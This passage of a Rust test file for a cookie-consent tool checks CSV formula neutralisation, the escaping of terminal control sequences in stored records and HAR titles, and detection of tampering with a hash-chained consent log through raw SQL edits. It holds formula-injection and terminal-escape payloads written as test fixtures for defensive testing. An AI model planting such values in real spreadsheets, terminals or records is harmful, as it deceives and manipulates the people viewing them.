    for (row, record) in rows[1..].iter().zip(&records) {
        assert_eq!(row[0], neutralised(&record.consent_id));
        assert_eq!(row[6], neutralised(record.language.as_str()));
        assert_eq!(row[7], neutralised(&record.page));
        assert_eq!(row[8], neutralised(record.network.as_deref().unwrap_or("")));
        assert_eq!(
            row[9],
            neutralised(record.user_agent.as_deref().unwrap_or(""))
        );
        assert_eq!(
            row[11],
            neutralised(record.banner_consent_id.as_deref().unwrap_or(""))
        );
        assert_eq!(row[12], neutralised(&record.receipt));
    }
    assert_eq!(rows[3][0], "'-cmd-2");
}

/// `show` writes a stored field's control characters as escapes: no byte
/// of the output can drive the terminal.
#[test]
fn show_escapes_what_could_drive_a_terminal() {
    let dir = std::env::temp_dir().join(format!("cookie-policy-show-{}", std::process::id()));
    let (log, _) = hostile_log(&dir);
    let output = run(&workspace(), &["consents", "--log", &log, "show", "esc-1"]);
    let newline = run(&workspace(), &["consents", "--log", &log, "show", "id-6"]);
    let _ = std::fs::remove_dir_all(&dir);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    let shown = text(&output.stdout);
    assert!(!output.stdout.contains(&0x1b), "{shown:?}");
    assert!(
        !shown.chars().any(|c| c.is_control() && c != '\n'),
        "{shown:?}"
    );
    assert!(
        shown.contains("page http://www.shop.test/\\u{1b}[31mred\\u{1b}[0m\\u{9b}2J\n"),
        "{shown}"
    );
    assert!(
        shown.contains("  user agent \\u{1b}]0;owned\\u{7}\\u{7f}\n"),
        "{shown}"
    );
    // A stored line break cannot forge a line of the report.
    let shown = text(&newline.stdout);
    assert!(shown.contains(", page \\u{a}HYPERLINK("), "{shown}");
    assert!(shown.contains("\\u{d}\\u{a}next\n"), "{shown}");
}

/// The text report of `audit` escapes what the site wrote: a page title
/// with terminal escapes in a HAR.
#[test]
fn the_text_report_escapes_what_the_site_wrote() {
    let path = edited_shop_har("esc", |har| {
        har["log"]["pages"][1]["title"] =
            "http://www.shop.test/about\u{1b}[2J\u{1b}]0;owned\u{7}".into();
    });
    let output = run(
        &workspace(),
        &[
            "audit",
            "--policy",
            SHOP_POLICY,
            "--har",
            path.to_str().unwrap_or_default(),
        ],
    );
    let _ = std::fs::remove_file(&path);
    assert_eq!(output.status.code(), Some(1), "{}", text(&output.stderr));
    let report = text(&output.stdout);
    assert!(
        !report.chars().any(|c| c.is_control() && c != '\n'),
        "{report:?}"
    );
    assert!(
        report.contains("  page:   http://www.shop.test/about\\u{1b}[2J\\u{1b}]0;owned\\u{7}\n"),
        "{report}"
    );
}

/// Runs SQL on a consent log the way someone with the database's password
/// would, with the database's own tools (Python's sqlite3, psql): not
/// through this project's code.
fn tamper(log: &str, sql: &str) {
    let status = if log.starts_with("postgres") {
        Command::new("psql")
            .args([log, "-q", "-v", "ON_ERROR_STOP=1", "-c", sql])
            .status()
    } else {
        Command::new("python3")
            .args([
                "-c",
                "import sqlite3, sys\nc = sqlite3.connect(sys.argv[1])\nc.executescript(sys.argv[2])\nc.commit()",
                log,
                sql,
            ])
            .status()
    };
    let status = status.unwrap_or_else(|error| {
        panic!("cannot tamper with {log} (needs python3, or psql for PostgreSQL): {error}")
    });
    assert!(status.success(), "{sql}");
}

/// `consents verify` passes on a whole log and finds each way of
/// tampering with it, as the log's owner could: a record edited in place,
/// one deleted from the middle, two swapped, the tail cut off below a saved
/// checkpoint. A purge by retention still verifies.
fn the_chain_shows_tampering(backend: &str, fresh: &dyn Fn() -> String) {
    let root = workspace();
    let dir = std::env::temp_dir().join(format!(
        "cookie-policy-chain-{backend}-{}",
        std::process::id()
    ));
    std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
    let checkpoint_file = dir.join("checkpoint.txt");
    let checkpoint_path = checkpoint_file.to_str().unwrap_or_default();
    let verify = |log: &str, with_checkpoint: bool| {
        let mut args = vec!["consents", "--log", log, "verify"];
        if with_checkpoint {
            args.extend(["--checkpoint", checkpoint_path]);
        }
        run(&root, &args)
    };
    let cases: [(&str, &str); 4] = [
        (
            "UPDATE consents SET accepted = 'necessary+statistical+advertising' WHERE chain_seq = 2",
            "record 2 was changed after it was written",
        ),
        (
            "DELETE FROM consents WHERE chain_seq = 2",
            "record 3 comes where record 2 should",
        ),
        (
            "UPDATE consents SET chain_seq = -1 WHERE chain_seq = 2; UPDATE consents SET chain_seq = 2 WHERE chain_seq = 3; UPDATE consents SET chain_seq = 3 WHERE chain_seq = -1",
            "record 2 does not follow the record before it",
        ),
        (
            "DELETE FROM consents WHERE chain_seq = 3",
            "the log has 2 records, and the checkpoint saw 3",
        ),
    ];
    for (sql, expected) in cases {
        let log = fresh();
        let whole = verify(&log, false);
        assert_eq!(whole.status.code(), Some(0), "{}", text(&whole.stderr));
        assert!(
            text(&whole.stdout)
                .contains("the consent log's chain is whole: 3 record(s) kept, 3 in all"),
            "{}",
            text(&whole.stdout)
        );
        let checkpoint = run(&root, &["consents", "--log", &log, "checkpoint"]);
        assert_eq!(
            checkpoint.status.code(),
            Some(0),
            "{}",
            text(&checkpoint.stderr)
        );
        assert!(
            text(&checkpoint.stdout)
                .starts_with("cookie-policy consent log checkpoint v1\nsize 3\nhead ")
        );
        std::fs::write(&checkpoint_file, &checkpoint.stdout).unwrap_or_else(|e| panic!("{e}"));
        tamper(&log, sql);
        let broken = verify(&log, true);
        assert_eq!(
            broken.status.code(),
            Some(1),
            "{sql}: {}",
            text(&broken.stdout)
        );
        let message = text(&broken.stderr);
        assert!(
            message.starts_with("error: the consent log was tampered with: "),
            "{message}"
        );
        assert!(message.contains(expected), "{sql}: {message}");
    }
    // Retention purges the 540-day-old first record: the rest verifies,
    // and so does an older checkpoint taken after it.
    let log = fresh();
    let purged = run(&root, &["consents", "--log", &log, "purge"]);
    assert_eq!(purged.status.code(), Some(0), "{}", text(&purged.stderr));
    let after = verify(&log, false);
    assert_eq!(after.status.code(), Some(0), "{}", text(&after.stderr));
    assert!(
        text(&after.stdout).contains("2 record(s) kept, 3 in all"),
        "{}",
        text(&after.stdout)
    );
    assert!(text(&after.stdout).contains("records 1 to 1 were purged by retention"));
    let bad = run(
        &root,
        &[
            "consents",
            "--log",
            &log,
            "verify",
            "--checkpoint",
            "Cargo.toml",
        ],
    );
    assert_eq!(bad.status.code(), Some(2));
    assert!(
        text(&bad.stderr).contains("is not a checkpoint"),
        "{}",
        text(&bad.stderr)
    );
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn the_chain_shows_tampering_on_sqlite() {
    let dir = std::env::temp_dir().join(format!("cookie-policy-chain-log-{}", std::process::id()));
    the_chain_shows_tampering("sqlite", &|| sqlite_log(&dir));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
#[ignore = "needs PostgreSQL (COOKIE_POLICY_POSTGRES=postgres://...)"]
fn the_chain_shows_tampering_on_postgres() {
    let url = cookie_policy_tests::postgres_url();
    the_chain_shows_tampering("postgres", &|| postgres_log(&url, "cli_chain"));
}
